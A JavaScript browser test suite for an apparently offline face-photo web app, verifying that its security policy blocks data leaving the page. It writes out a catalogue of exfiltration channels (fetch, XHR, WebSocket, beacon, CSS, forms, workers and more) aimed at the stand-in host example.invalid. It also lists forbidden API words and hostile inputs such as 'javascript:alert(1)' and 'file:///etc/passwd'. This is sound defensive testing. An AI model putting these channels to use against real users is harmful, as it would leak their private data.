// Private and offline: no way out for a photo, no request to anybody, and no network needed after the first visit.
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { answered, choose, drawnFace, fakeDist, modelReady, ready, scene } from './harness.mjs';

const face = drawnFace();
const AWAY = 'http://example.invalid';

/** Every way in which script could hand bytes to somebody else; each resolves when it worked. */
const CHANNELS = {
  fetch: (away) => fetch(`${away}/fetch`, { method: 'POST', body: 'photo', mode: 'no-cors' }),
  xhr: (away) =>
    new Promise((ok, no) => {
      const request = new XMLHttpRequest();
      Object.assign(request, { onload: ok, onerror: no });
      request.open('POST', `${away}/xhr`);
      request.send('photo');
    }),
  websocket: (away) => new Promise((ok, no) => Object.assign(new WebSocket(`${away.replace('http', 'ws')}/ws`), { onopen: ok, onerror: no })),
  eventsource: (away) => new Promise((ok, no) => Object.assign(new EventSource(`${away}/events?photo`), { onopen: ok, onerror: no })),
  beacon: (away) => new Promise((_, no) => (navigator.sendBeacon(`${away}/beacon`, 'photo'), setTimeout(no, 500))),
  image: (away) => new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no, src: `${away}/image?photo` })),
  media: (away) => new Promise((ok, no) => Object.assign(document.createElement('video'), { oncanplay: ok, onerror: no, src: `${away}/video?photo` })),
  css: (away) =>
    new Promise((_, no) => {
      document.body.style.backgroundImage = `url(${away}/css?photo)`;
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: x; src: url(${away}/font?photo); } body { font-family: x; border-image: url(${away}/border?photo) }`);
      document.adoptedStyleSheets.push(sheet);
      setTimeout(no, 500);
    }),
  stylesheet: (away) => new Promise((ok, no) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', onload: ok, onerror: no, href: `${away}/sheet?photo` }))),
  prefetch: (away) =>
    new Promise((ok, no) => {
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', onload: ok, href: `${away}/${rel}?photo` }));
      }
      setTimeout(no, 700);
    }),
  form: (away) =>
    new Promise((_, no) => {
      const form = Object.assign(document.createElement('form'), { action: `${away}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
      setTimeout(no, 500);
    }),
  frame: (away) =>
    new Promise((_, no) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${away}/frame?photo` }));
      setTimeout(no, 500);
    }),
  object: (away) => new Promise((ok, no) => document.body.append(Object.assign(document.createElement('object'), { onload: ok, onerror: no, data: `${away}/object?photo` }))),
  script: (away) => import(`${away}/script.js?photo`),
  worker: (away) =>
    new Promise((ok, no) => {
      const start = URL.createObjectURL(new Blob([`import '${away}/worker.js?photo'`], { type: 'text/javascript' }));
      Object.assign(new Worker(start, { type: 'module' }), { onmessage: ok, onerror: no });
      setTimeout(no, 500);
    }),
  inline: () =>
    new Promise((ok, no) => {
      window.inlined = ok;
      const script = document.createElement('script');
      script.append('window.inlined()');
      document.body.append(script);
      setTimeout(no, 200);
    }),
  // Later: what the debugger calls at once is not under the policy.
  eval: () => new Promise((ok, no) => setTimeout(() => { try { ok((0, eval)('1')); } catch (error) { no(error); } })),
};

test('no channel of script carries anything away: the policy blocks each', async (t) => {
  const { server, browser, page } = await scene(t);
  await ready(page);
  await choose(page, face);
  await answered(page);
  const before = server.log.length;
  const calm = browser.trouble.length;
  for (const [name, go] of Object.entries(CHANNELS)) {
    const told = browser.trouble.length;
    const outcome = await page.evaluate(`(${go})(${JSON.stringify(AWAY)}).then(() => 'worked', () => 'blocked')`).catch((error) => `blocked: ${error}`);
    assert.match(String(outcome), /^blocked/, name);
    // A browser without plug-ins drops an object without a word.
    if (name === 'object') continue;
    // The console's words may come a moment after the refusal.
    for (let left = 20; left > 0 && browser.trouble.length === told; left--) await page.waitForTimeout(50);
    assert.ok(browser.trouble.length > told, `${name}: the browser says that the policy was violated`);
  }
  await page.waitForTimeout(500);
  assert.ok(browser.trouble.length > calm + 12);
  assert.deepEqual(server.log.slice(before).map((entry) => entry.url), [], 'not one request reached any host');
  assert.match(page.url(), /^http:\/\/127/, 'and the page is still here');
});

test('what no policy can block, the page never uses', async (t) => {
  const WATCHED = ['RTCPeerConnection', 'WebTransport', 'WebSocket', 'EventSource', 'XMLHttpRequest', 'Notification', 'BroadcastChannel'];
  const { page } = await scene(t, { query: 'icon.svg' });
  await page.addInitScript((names) => {
    window.used = [];
    for (const name of names) {
      const real = window[name];
      if (!real) continue;
      window[name] = new Proxy(real, { construct: (target, args) => (window.used.push(name), Reflect.construct(target, args)) });
    }
    window.open = () => (window.used.push('open'), null);
    for (const name of ['share', 'sendBeacon']) navigator[name] = () => window.used.push(name);
    // A navigation to another address carries what is in it; the download of a report is none.
    navigation?.addEventListener('navigate', (event) => event.downloadRequest === null && window.used.push(`navigate ${event.destination.url}`));
  }, WATCHED);
  await page.goto(page.url().replace('icon.svg', ''));
  await ready(page);
  await choose(page, face);
  await answered(page);
  const download = page.waitForEvent('download');
  await page.locator('[data-test="save"]').first().click();
  await download;
  assert.deepEqual(await page.evaluate(() => window.used), []);
  // Nor is a word of them in what is shipped, worker and all.
  const assets = join(fakeDist(), 'assets');
  for (const name of readdirSync(assets).filter((n) => n.endsWith('.js'))) {
    const code = readFileSync(join(assets, name), 'utf8');
    for (const word of [...WATCHED, 'sendBeacon', 'window.open', 'document.write', 'innerHTML=', 'eval(', 'importScripts', 'https://']) {
      const where = code.indexOf(word);
      assert.ok(where < 0 || allowed(word, code), `${word} in ${name}: ${code.slice(Math.max(0, where - 60), where + 60)}`);
    }
  }
});

/** Lit sets templates (constant strings of this program) through one `innerHTML`, inside its Trusted Types policy. */
function allowed(word, code) {
  return word === 'innerHTML=' && code.split(word).length === 2 && (code.includes('createPolicy("lit-html"') || code.includes('createPolicy(`lit-html`'));
}

test('Trusted Types are enforced: text never becomes markup or a script', async (t) => {
  const { page } = await scene(t);
  const outcome = await page.evaluate(() => {
    const tries = {
      html: () => (document.createElement('div').innerHTML = '<b>x</b>'),
      script: () => (document.createElement('script').src = '/x.js'),
      worker: () => new Worker('/assets/x.js'),
      policy: () => trustedTypes.createPolicy('mine', { createHTML: (s) => s }),
      ours: () => trustedTypes.createPolicy('facext', { createScriptURL: (s) => s }),
    };
    return Object.fromEntries(Object.entries(tries).map(([name, go]) => {
      try {
        go();
        return [name, 'worked'];
      } catch {
        return [name, 'blocked'];
      }
    }));
  });
  assert.deepEqual(outcome, { html: 'blocked', script: 'blocked', worker: 'blocked', policy: 'blocked', ours: 'blocked' });
});

const allow = { serviceWorkers: 'allow' };
const offlineReady = (page) => page.evaluate(() => navigator.serviceWorker.ready.then(() => true));

test('after the first visit the page works with no network at all', async (t) => {
  const { server, browser, page } = await scene(t, { browser: allow, server: { base: '/sub/path/' } });
  await ready(page);
  await offlineReady(page);
  await page.waitForTimeout(300);
  // Each weight is kept once: in the page's storage, not in the service worker's.
  const kept = await page.evaluate(async () => {
    const urls = [];
    for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) urls.push(request.url);
    return urls;
  });
  assert.ok(kept.some((url) => url.endsWith('/weights/manifest.json')) && kept.some((url) => /\.wasm/.test(url)), kept.join('\n'));
  assert.deepEqual(kept.filter((url) => /safetensors|config\.json/.test(url)), []);
  assert.equal(server.weightsLog().length, 4);
  await server.close();
  for (const query of ['', '?device=cpu']) {
    const view = await browser.page(server.url + query);
    await modelReady(view);
    await choose(view, face);
    await answered(view);
    assert.equal(await view.locator('[data-test="phrase"]').count(), 2);
    await view.close();
  }
  await page.reload();
  await modelReady(page);
  assert.deepEqual(browser.trouble, []);
});

test('a photo that another app shares is opened, and kept nowhere', async (t) => {
  const { browser, page, server } = await scene(t, { browser: allow });
  await ready(page);
  await offlineReady(page);
  await page.reload();
  await modelReady(page);
  const before = server.log.length;
  // As the system does it: a POST navigation to the address in the manifest.
  const manifest = JSON.parse(readFileSync(join(fakeDist(), 'manifest.webmanifest'), 'utf8'));
  const target = manifest.share_target;
  const answer = await page.evaluate(async ({ action, method, field, bytes }) => {
    const form = new FormData();
    form.append(field, new File([new Uint8Array(bytes)], 'shared photo.png', { type: 'image/png' }));
    const reply = await fetch(action, { method, body: form, redirect: 'manual' });
    return reply.type;
  }, { action: target.action, method: target.method, field: target.params.files[0].name, bytes: [...face] });
  assert.equal(answer, 'opaqueredirect');
  await page.goto(`${server.url}?shared=`);
  await answered(page);
  assert.match(await page.locator('[data-test="facts"]').innerText(), /shared photo\.png/);
  assert.equal(new URL(page.url()).search, '');
  assert.equal(await page.evaluate(async () => (await (await caches.open('facext-shared')).keys()).length), 0);
  assert.deepEqual(server.log.slice(before).filter((e) => e.path.includes('share')).map((e) => e.url), [], 'it never reached the server');
  assert.deepEqual(browser.trouble, []);
});

test('the manifest names icons that exist, at their sizes', () => {
  const { icons } = JSON.parse(readFileSync(join(fakeDist(), 'manifest.webmanifest'), 'utf8'));
  assert.ok(icons.some((i) => i.sizes === '192x192') && icons.some((i) => i.sizes === '512x512') && icons.some((i) => i.purpose === 'maskable'));
  for (const { src, sizes, type } of icons.filter((i) => i.type === 'image/png')) {
    const bytes = readFileSync(join(fakeDist(), src));
    assert.equal(`${bytes.readUInt32BE(16)}x${bytes.readUInt32BE(20)}`, sizes, type);
  }
});

test('a photo by its address: asked first, then fetched from this site; another site is refused by the policy', async (t) => {
  const { server, browser, page, at } = await scene(t, { query: '?src=./icon-192.png' });
  await ready(page);
  await at('source').waitFor();
  assert.match(await at('source').innerText(), /icon-192\.png/);
  assert.deepEqual(server.log.filter((e) => e.path === '/icon-192.png').map((e) => e.url), [], 'nothing is fetched unasked');
  await at('source-yes').click();
  await answered(page);
  assert.match(await at('facts').innerText(), /192 × 192/);
  assert.equal(server.log.filter((e) => e.path === '/icon-192.png').length, 1);
  assert.equal(await at('source').count(), 0);
  assert.deepEqual(browser.trouble, []);

  const before = server.log.length;
  await page.goto(`${server.url}?src=${encodeURIComponent(`${AWAY}/face.png`)}`);
  await at('source').waitFor();
  assert.match(await at('source').innerText(), /example\.invalid, which learns that you asked/);
  await at('source-yes').click();
  await at('problem').waitFor();
  assert.equal(await at('problem').getAttribute('data-code'), 'source.failed');
  assert.deepEqual(server.log.slice(before).filter((e) => !e.url.startsWith(server.url)).map((e) => e.url), []);
  // What is no address, or no address of a photo, is no question.
  for (const src of ['javascript:alert(1)', 'file:///etc/passwd', 'http://', '']) {
    await page.goto(`${server.url}?src=${encodeURIComponent(src)}`);
    await at('pick').first().waitFor();
    assert.equal(await at('source').count(), 0, src);
  }
});
